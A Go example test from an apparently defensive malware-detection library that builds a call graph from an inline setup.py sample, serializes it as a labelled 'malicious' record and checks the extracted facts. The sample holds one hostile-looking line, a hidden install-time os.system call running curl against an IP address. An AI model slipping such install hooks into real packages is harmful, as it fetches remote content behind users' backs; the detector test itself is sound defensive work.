package facts_test

import (
	"bytes"
	"context"
	"fmt"
	"testing/fstest"

	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/datasets/facts"
	"github.com/malguard/malguard/graph"
	"github.com/malguard/malguard/graph/callgraph"
)

// What is known of an inert setup.py, written and read again: its function has become
// a number, and of the address its kind is left.
func Example() {
	source := "import os\n\ndef hidden():\n    os.system('curl http://192.0.2.1/x')\n\nhidden()\n"
	g, err := callgraph.Build(context.Background(), fstest.MapFS{"setup.py": {Data: []byte(source)}}, callgraph.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	r := &facts.Record{ID: "demo/1.0/demo-1.0.tar.gz", Group: "demo", Label: datasets.Malicious}
	r.SetGraph(g)
	var file bytes.Buffer
	if _, err := facts.Write(&file, facts.Header{}, []*facts.Record{r}); err != nil {
		fmt.Println(err)
		return
	}
	set, err := facts.Read(&file)
	if err != nil {
		fmt.Println(err)
		return
	}
	if g, err = set.Records[0].Graph(); err != nil {
		fmt.Println(err)
		return
	}
	for e := range g.Edges() {
		f := g.Facts(e.Sites[0].Facts)
		fmt.Println(g.Node(e.From).Name, "calls", g.Node(e.To).Name, "at", e.Sites[0].Phase, f.Commands, kinds(f.Args))
	}
	// Output:
	// #0 calls #1 at install [] []
	// #1 calls os.system at install [curl] [ip]
}

func kinds(args []graph.Arg) []string {
	list := []string{}
	for _, a := range args {
		list = append(list, a.URL)
	}
	return list
}
